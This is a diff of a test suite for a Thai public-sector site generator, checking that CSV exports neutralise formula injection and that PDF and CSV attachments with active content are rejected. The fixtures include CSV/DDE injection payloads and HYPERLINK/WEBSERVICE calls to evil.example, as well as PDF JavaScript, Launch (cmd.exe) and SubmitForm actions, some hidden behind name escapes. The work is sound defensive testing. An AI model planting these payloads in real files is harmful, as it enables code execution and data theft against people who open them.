@@ -1,10 +1,22 @@
 import { describe, it, expect, afterAll } from 'vitest';
-import { mkdir, symlink, writeFile } from 'node:fs/promises';
+import { mkdir, readFile, symlink, writeFile } from 'node:fs/promises';
+import { zipSync } from 'fflate';
 import path from 'node:path';
 import { loadAndValidateContent } from '../../src/lib/content/load-content.ts';
+import { procurementDatasets } from '../../src/lib/procurement-views/exports.ts';
 import type { ContentProblem } from '../../src/lib/content/problem.ts';
 import { tinyPdf } from '../helpers/tiny-pdf.ts';
 import { copyFixtureSite, projectRoot, type ScratchSite } from '../helpers/fixture-site.ts';
+import { parse } from 'csv-parse/sync';
+import type { ContentModel } from '../../src/lib/content/model.ts';
+import { toCsv } from '../../src/lib/exports/csv.ts';
+import { documentsDataset, itaResultsDataset, measuresDataset } from '../../src/lib/exports/datasets.ts';
+import { itasColumns, itasRows } from '../../src/lib/exports/itas-sheet.ts';
+import { collectEvidence } from '../../src/lib/oit/evidence.ts';
+import { assessCatalogue } from '../../src/lib/oit/status.ts';
+import { checkAttachmentType } from '../../src/lib/guards/attachment-type.ts';
+import { problemText } from '../../src/i18n/problems.ts';
+import { bytesOf, pdfWith, simplePdf } from '../helpers/attachment-bytes.ts';
 
 const sites: ScratchSite[] = [];
 afterAll(async () => Promise.all(sites.map((site) => site.remove())));
@@ -249,5 +261,269 @@ describe('attachments, through validation: by their bytes, and read for personal
     const about = (name: string) => problems.filter((problem) => problem.file.endsWith(name));
     expect(about('broken.pdf').map((problem) => problem.severity)).toEqual(['error']);
     expect(about('blank-scan.pdf')).toEqual([expect.objectContaining({ severity: 'warning', personalDataNotChecked: true })]);
+  });
+});
+
+describe('published spreadsheets carry no formulas (CSV injection, OWASP): every export, every character', async () => {
+  const loaded = await loadAndValidateContent(path.join(projectRoot, 'tests/fixtures/sites/minimal'));
+  if (!loaded.model) throw new Error('the minimal fixture does not validate');
+  const fixture = loaded.model;
+
+  // Each starts a formula in Excel or LibreOffice as typed, after what they skip, or as a look-alike they may fold.
+  const payloads: [string, string][] = [
+    ['=', '=HYPERLINK("http://evil.example/x","ดูเอกสาร")'],
+    ['= DDE', "=cmd|' /C calc'!A0"],
+    ['+', '+1+cmd|\' /C calc\'!A0'],
+    ['-', '-2+3+cmd|\' /C calc\'!A0'],
+    ['@', '@SUM(1+1)*cmd|\' /C calc\'!A0'],
+    ['tab', '\t=1+1'],
+    ['carriage return', '\r=1+1'],
+    ['leading spaces', '   =1+1'],
+    ['line feed first', '\n=1+1'],
+    ['no-break space', '\u00a0=1+1'],
+    ['ideographic space', '\u3000=1+1'],
+    ['zero-width space', '\u200b=1+1'],
+    ['full-width =', '＝1+1'],
+    ['full-width +', '＋1+1'],
+    ['full-width -', '－1+1'],
+    ['full-width @', '＠SUM(1)'],
+    ['minus sign', '−1+1'],
+  ];
+
+  /** The file as a spreadsheet reads it: BOM dropped, quotes resolved, one array per row. */
+  const cells = (csv: string) => parse(csv, { bom: true, relax_column_count: true }) as string[][];
+  /** What a spreadsheet would run: a cell starting with = + - @ (or a look-alike) after spaces, or with a tab or CR. */
+  const runsAsFormula = (cell: string) => /^[\t\r]/.test(cell) || /^[\s\u200b\u3000\u00a0]*[=+\-@＝＋－＠−]/.test(cell);
+  const plainNumber = (cell: string) => /^-?\d+(\.\d+)?$/.test(cell);
+  const expectInert = (csv: string, payload: string) => {
+    const table = cells(csv);
+    const all = table.flat();
+    expect(all).toContain(`'${payload}`);
+    expect(all.filter((cell) => !plainNumber(cell) && runsAsFormula(cell))).toEqual([]);
+    // The neutralised cell is quoted, as OWASP advises, so its own quotes and separators stay inside it.
+    expect(csv).toContain(`"'${payload.replace(/"/g, '""')}"`);
+  };
+
+  const withDocumentTitle = (title: string): ContentModel => ({ ...fixture, documents: fixture.documents.map((entry) => ({ ...entry, data: { ...entry.data, title } })) });
+  const withMeasureText = (text: string): ContentModel => ({
+    ...fixture,
+    measures: fixture.measures.map((entry) => ({
+      ...entry,
+      data: { ...entry.data, responsibleUnit: text, rounds: entry.data.rounds.map((round) => ({ ...round, result: text })) },
+    })),
+  });
+  const withIndicatorTitle = (title: string): ContentModel => ({
+    ...fixture,
+    catalogues: fixture.catalogues.map((entry) => ({ ...entry, data: { ...entry.data, indicators: entry.data.indicators.map((indicator) => ({ ...indicator, title })) } })),
+  });
+
+  it.each(payloads)('data/documents.csv: a title starting with %s', (_name, payload) => {
+    const dataset = documentsDataset(withDocumentTitle(payload));
+    expectInert(toCsv(dataset.rows, dataset.columns), payload);
+  });
+
+  it.each(payloads)('data/measures.csv: a responsible unit and a round result starting with %s', (_name, payload) => {
+    const dataset = measuresDataset(withMeasureText(payload));
+    expectInert(toCsv(dataset.rows, dataset.columns), payload);
+  });
+
+  it.each(payloads)('data/ita-results.csv: an indicator title starting with %s', (_name, payload) => {
+    const dataset = itaResultsDataset(withIndicatorTitle(payload));
+    expectInert(toCsv(dataset.rows, dataset.columns), payload);
+  });
+
+  it.each(payloads)('oit/<year>/itas.csv (the sheet pasted into ITAS): an item title starting with %s', (_name, payload) => {
+    const catalogue = fixture.catalogues.find((entry) => entry.data.year === 2567)!.data;
+    const tampered = { ...catalogue, items: catalogue.items.map((item) => ({ ...item, title: payload })) };
+    const assessment = assessCatalogue(tampered, collectEvidence(fixture), fixture.site, '2024-06-30');
+    for (const showGaps of [false, true]) expectInert(toCsv(itasRows(2567, assessment, fixture.site.siteUrl, { showGaps }), itasColumns({ showGaps })), payload);
+  });
+
+  it.each(payloads)('data/procurement-<year>.csv: an item and a winner starting with %s', async (_name, payload) => {
+    const year = await loadAndValidateContent(path.join(projectRoot, 'tests/fixtures/sites/procurement-year'));
+    if (!year.model) throw new Error('the procurement-year fixture does not validate');
+    const procurement = year.model.procurement!;
+    const months = procurement.months.map((month) => ({ ...month, data: { ...month.data, rows: month.data.rows.map((row) => ({ ...row, item: payload, winner: { ...row.winner, name: payload } })) } }));
+    const tampered = { ...year.model, procurement: { ...procurement, months } };
+    const [dataset] = procurementDatasets(tampered);
+    expectInert(toCsv(dataset!.rows, dataset!.columns), payload);
+  });
+
+  it('keeps numbers numbers: a negative amount is written bare, not as text', () => {
+    const csv = toCsv([{ amount: -1500.5, note: 'คืนเงิน' }, { amount: -5, note: '-5' }], [
+      { header: 'amount', value: (row) => row.amount },
+      { header: 'note', value: (row) => row.note },
+    ]);
+    expect(csv).toContain('\r\n-1500.5,คืนเงิน\r\n');
+    // The same characters typed as text are text.
+    expect(csv).toContain(`\r\n-5,"'-5"\r\n`);
+    expect(cells(csv).slice(1).map((row) => row[0])).toEqual(['-1500.5', '-5']);
+  });
+
+  it('leaves ordinary Thai text, dates and addresses untouched', () => {
+    const dataset = documentsDataset(fixture);
+    const csv = toCsv(dataset.rows, dataset.columns);
+    expect(csv).not.toContain("'");
+    expect(cells(csv)[1]).toContain('2024-02-29');
+  });
+});
+
+describe('PDF attachments with active content are refused, however the PDF hides it; links stay allowed', () => {
+  const js = '<< /S /JavaScript /JS (this.exportDataObject({ cName: "invoice.exe", nLaunch: 2 })) >>';
+  const annotation = (action: string) => ({ page: '/Annots [5 0 R]', objects: [`<< /Type /Annot /Subtype /Link /Rect [0 0 100 20] /A ${action} >>`] });
+  const refused: [string, Parameters<typeof pdfWith>[0], string[]][] = [
+    ['OpenAction running JavaScript (exportDataObject)', { catalog: '/OpenAction 5 0 R', objects: [js] }, ['javascript']],
+    ['a document-level script in the JavaScript name tree', { catalog: '/Names << /JavaScript 5 0 R >>', objects: ['<< /Names [(init) 6 0 R] >>', '<< /S /JavaScript /JS (app.alert(1)) >>'] }, ['javascript']],
+    ['a link that launches a program', annotation('<< /S /Launch /Win << /F (cmd.exe) /P (/c calc) >> >>'), ['launch']],
+    ['OpenAction launching a file', { catalog: '/OpenAction << /S /Launch /F (payload.exe) >>' }, ['launch']],
+    ['additional actions on a page', { page: '/AA << /O 5 0 R >>', objects: [js] }, ['javascript', 'additional-actions']],
+    ['additional actions on the catalogue, without script', { catalog: '/AA << /WC << /S /URI /URI (https://evil.example/) >> >>' }, ['additional-actions']],
+    [
+      'an embedded file (EmbeddedFiles name tree, file specification, EmbeddedFile stream)',
+      { catalog: '/Names << /EmbeddedFiles 5 0 R >>', objects: ['<< /Names [(invoice.exe) 6 0 R] >>', '<< /Type /Filespec /F (invoice.exe) /EF << /F 7 0 R >> >>', '<< /Type /EmbeddedFile /Length 2 >>\nstream\nMZ\nendstream'] },
+      ['embedded-file'],
+    ],
+    ['a file attachment annotation', { page: '/Annots [5 0 R]', objects: ['<< /Type /Annot /Subtype /FileAttachment /Rect [0 0 10 10] /FS 6 0 R >>', '<< /Type /Filespec /F (a.docm) >>'] }, ['embedded-file']],
+    ['an XFA form', { catalog: '/AcroForm << /Fields [] /XFA 5 0 R >>', objects: ['<< /Length 7 >>\nstream\n<xdp/>\n\nendstream'] }, ['xfa']],
+    ['a form that submits itself elsewhere', annotation('<< /S /SubmitForm /F << /FS /URL /F (https://evil.example/collect) >> >>'), ['submit-form']],
+    ['a form that imports data', annotation('<< /S /ImportData /F (data.fdf) >>'), ['import-data']],
+    ['rich media (Flash, video, 3D)', { page: '/Annots [5 0 R]', objects: ['<< /Type /Annot /Subtype /RichMedia /Rect [0 0 10 10] /RichMediaContent << >> >>'] }, ['rich-media']],
+    ['JavaScript behind a name escape (/J#61vaScript, /J#53)', { catalog: '/OpenAction << /S /J#61vaScript /J#53 (app.alert(1)) >>' }, ['javascript']],
+    ['JavaScript behind lower-case hex escapes (/#4aavaScript, /#4a#53)', { catalog: '/OpenAction << /S /#4aavaScript /#4a#53 (app.alert(1)) >>' }, ['javascript']],
+    ['Launch behind an escape (/L#61unch)', annotation('<< /S /L#61unch /F (cmd.exe) >>'), ['launch']],
+    ['JavaScript in a compressed object stream', { catalog: '/OpenAction 5 0 R', objects: [js], objectStream: true }, ['javascript']],
+    ['escaped names in a compressed object stream', { catalog: '/Names << /EmbeddedFil#65s 5 0 R >> /OpenAction << /S /J#61vaScript /JS (1) >>', objects: ['<< /Names [] >>'], objectStream: true }, ['javascript', 'embedded-file']],
+  ];
+
+  const activeProblems = async (name: string, bytes: Uint8Array) => {
+    const check = await checkAttachmentType(name, bytes);
+    return check.ok ? [] : check.problems.filter((problem) => problem.key === 'attachment.pdf-active-content');
+  };
+
+  it.each(refused)('refuses %s', async (_name, parts, found) => {
+    const problems = await activeProblems('notice.pdf', pdfWith(parts));
+    expect(problems).toEqual([{ key: 'attachment.pdf-active-content', params: { path: 'notice.pdf', found } }]);
+  });
+
+  it('sees what an object stream hides from the bytes, not by grepping them', () => {
+    const packed = new TextDecoder('latin1').decode(pdfWith({ catalog: '/OpenAction 5 0 R', objects: [js], objectStream: true }));
+    expect(packed).not.toMatch(/JavaScript|OpenAction|exportDataObject/);
+  });
+
+  it('refuses a PDF whose compressed objects cannot be unpacked to be checked', async () => {
+    const packed = pdfWith({ catalog: '/OpenAction 5 0 R', objects: [js], objectStream: true });
+    const text = new TextDecoder('latin1').decode(packed);
+    // The same object stream with its compressed bytes damaged: a reader may still recover what the checker cannot see.
+    const start = text.indexOf('stream\n', text.indexOf('/ObjStm')) + 7;
+    const damaged = packed.slice();
+    damaged.set(bytesOf('garbage!'), start);
+    expect((await activeProblems('notice.pdf', damaged)).map((problem) => problem.params)).toEqual([{ path: 'notice.pdf', found: ['unreadable-objects'] }]);
+  });
+
+  it('refuses JavaScript in the compressed objects of a PDF encrypted with restrictions only (an empty open password)', async () => {
+    const { PDFDocument, PDFName, PDFString } = await import('@cantoo/pdf-lib');
+    const document = await PDFDocument.create();
+    document.addPage([200, 200]);
+    document.catalog.set(PDFName.of('OpenAction'), document.context.register(document.context.obj({ S: 'JavaScript', JS: PDFString.of('app.alert(1)') })));
+    document.encrypt({ userPassword: '', ownerPassword: 'owner-secret', permissions: {} });
+    const bytes = await document.save({ useObjectStreams: true });
+    expect(new TextDecoder('latin1').decode(bytes)).not.toContain('JavaScript');
+    expect((await activeProblems('notice.pdf', bytes)).map((problem) => problem.params)).toEqual([{ path: 'notice.pdf', found: ['javascript'] }]);
+  });
+
+  it('refuses script added by an incremental update to a clean PDF', async () => {
+    const clean = new TextDecoder('latin1').decode(pdfWith());
+    const update = `1 0 obj\n<< /Type /Catalog /Pages 2 0 R /OpenAction 9 0 R >>\nendobj\n9 0 obj\n${js}\nendobj\nxref\n0 1\n0000000000 65535 f \ntrailer\n<< /Size 10 /Root 1 0 R /Prev ${clean.lastIndexOf('xref')} >>\nstartxref\n${clean.length}\n%%EOF\n`;
+    const problems = await activeProblems('notice.pdf', bytesOf(clean + update));
+    expect(problems.map((problem) => problem.params)).toEqual([{ path: 'notice.pdf', found: ['javascript'] }]);
+  });
+
+  it('refuses an active PDF inside a ZIP, naming the file inside', async () => {
+    const archive = zipSync({ 'docs/notice.pdf': pdfWith({ catalog: '/OpenAction 5 0 R', objects: [js] }) });
+    const check = await checkAttachmentType('bundle.zip', archive);
+    expect(check.ok ? [] : check.problems).toEqual([{ key: 'attachment.pdf-active-content', params: { path: 'bundle.zip', inArchive: 'docs/notice.pdf', found: ['javascript'] } }]);
+  });
+
+  it.each([
+    ['a web link (/URI)', annotation('<< /S /URI /URI (https://www.nacc.go.th/) >>')],
+    ['a link inside the document (/GoTo)', annotation('<< /S /GoTo /D [3 0 R /Fit] >>')],
+    ['OpenAction to the first page', { catalog: '/OpenAction [3 0 R /Fit]' }],
+    ['an ordinary form field', { catalog: '/AcroForm << /Fields [5 0 R] >>', objects: ['<< /FT /Tx /T (name) /V (สมชาย) >>'] }],
+    ['the same, in an object stream', { catalog: '/OpenAction [3 0 R /Fit]', objects: ['<< /S /URI /URI (https://www.nacc.go.th/) >>'], objectStream: true }],
+  ])('accepts %s', async (_name, parts) => {
+    expect(await checkAttachmentType('notice.pdf', pdfWith(parts))).toMatchObject({ ok: true });
+  });
+
+  it('accepts the PDFs the example site and the fixtures publish', async () => {
+    const fixtures = ['thai-manual', 'scanned-declaration', 'national-id', 'owner-password-only', 'password-protected'].map((name) => readFile(path.join(projectRoot, `tests/fixtures/pdf/${name}.pdf`)));
+    for (const bytes of [simplePdf({ lines: ['Report 2567'], info: { Title: 'รายงาน' } }), bytesOf(tinyPdf()), ...(await Promise.all(fixtures))]) {
+      expect(await checkAttachmentType('report.pdf', new Uint8Array(bytes))).toMatchObject({ ok: true });
+    }
+  });
+
+  it('tells staff in Thai what the PDF holds and how to save a clean copy', () => {
+    const text = problemText('attachment.pdf-active-content', { path: 'documents/2567/notice.pdf', found: ['javascript', 'launch', 'embedded-file'] });
+    expect(text.th).toContain('ไฟล์แนบ "documents/2567/notice.pdf"');
+    expect(text.th).toContain('JavaScript');
+    expect(text.th).toContain('เปิดโปรแกรม');
+    expect(text.th).toContain('ไฟล์อื่นฝัง');
+    expect(text.fixTh).toContain('Microsoft Print to PDF');
+    expect(text.fixTh).toContain('PDF/A');
+    expect(text.en).toContain('JavaScript');
+  });
+
+  it('is reported by validation, naming the attachment', async () => {
+    const site = await scratch();
+    await writeFile(path.join(site.root, 'content/documents/2567/procurement-plan-2567.pdf'), pdfWith({ catalog: '/OpenAction 5 0 R', objects: [js], objectStream: true }));
+    const problems = await errorsOf(site);
+    expect(problems).toEqual([expect.objectContaining({ file: expect.stringMatching(/content\/documents\/2567\/procurement-plan-2567\.pdf$/), th: expect.stringContaining('JavaScript') })]);
+  });
+});
+
+describe('CSV attachments carry no formula that reaches out (what staff publish is opened in Excel too)', () => {
+  const csvWith = (cell: string) => `ลำดับ,รายการ,จำนวนเงิน\n1,จัดซื้อวัสดุสำนักงาน,-500\n2,${cell},1200\n`;
+  const formulaProblems = async (text: string) => {
+    const check = await checkAttachmentType('procurement.csv', bytesOf(text));
+    return check.ok ? [] : check.problems.filter((problem) => problem.key === 'attachment.csv-formula');
+  };
+
+  it.each([
+    ['=HYPERLINK', '"=HYPERLINK(""http://evil.example/x"",""ดูเอกสาร"")"'],
+    ['DDE', "=cmd|' /C calc'!A0"],
+    ['@', "@SUM(1+1)*cmd|' /C calc'!A0"],
+    ['+', "+cmd|' /C calc'!A0"],
+    ['-', "-2+3+cmd|' /C calc'!A0"],
+    ['after spaces, quoted', '"   =WEBSERVICE(""http://evil.example/"")"'],
+    ['full-width =', '＝HYPERLINK("http://evil.example/")'],
+  ])('refuses a cell starting %s, naming its line and column', async (_name, cell) => {
+    expect((await formulaProblems(csvWith(cell))).map((problem) => problem.params)).toEqual([
+      expect.objectContaining({ path: 'procurement.csv', line: 3, column: 2, count: 1 }),
+    ]);
+  });
+
+  it('finds the cell in a semicolon- or tab-separated file, and behind an unclosed quote', async () => {
+    expect(await formulaProblems('a;b\n1;=HYPERLINK("http://evil.example/")\n')).toHaveLength(1);
+    expect(await formulaProblems('a\tb\n1\t=HYPERLINK("http://evil.example/")\n')).toHaveLength(1);
+    expect(await formulaProblems('a,b\n"unclosed,x\n1,=HYPERLINK("http://evil.example/")\n')).toHaveLength(1);
+  });
+
+  it('accepts signed numbers, phone numbers, a dash for "none", Thai text after a dash and a dash inside quoted text', async () => {
+    const check = await checkAttachmentType('procurement.csv', bytesOf('ชื่อ,โทร,ยอด,หมายเหตุ\nก,+66 2 123 4567,-1234.50,-\nข,-,-500,-ไม่มี-\nค,(02) 123-4567,+15,"รวม VAT, - see page 2"\n'));
+    expect(check).toMatchObject({ ok: true });
+  });
+
+  it('says in Thai where the cell is and how to make it text', () => {
+    const text = problemText('attachment.csv-formula', { path: 'documents/2567/list.csv', line: 3, column: 2, cell: '=HYPERLINK("x")', count: 2 });
+    expect(text.th).toContain('บรรทัด 3 คอลัมน์ 2');
+    expect(text.th).toContain('และอีก 1 ช่อง');
+    expect(text.fixTh).toContain("'");
+  });
+
+  it('is reported by validation, naming the attachment', async () => {
+    const site = await scratch();
+    await site.edit(planFile, (text) => text.replace('file: procurement-plan-2567.pdf', 'file: procurement-plan-2567.csv'));
+    await site.write('content/documents/2567/procurement-plan-2567.csv', csvWith('=HYPERLINK("http://evil.example/","แผน")'));
+    const problems = (await errorsOf(site)).filter((problem) => problem.en.includes('formula'));
+    expect(problems).toEqual([expect.objectContaining({ file: expect.stringMatching(/procurement-plan-2567\.csv$/), th: expect.stringContaining('บรรทัด 3 คอลัมน์ 2') })]);
   });
 });
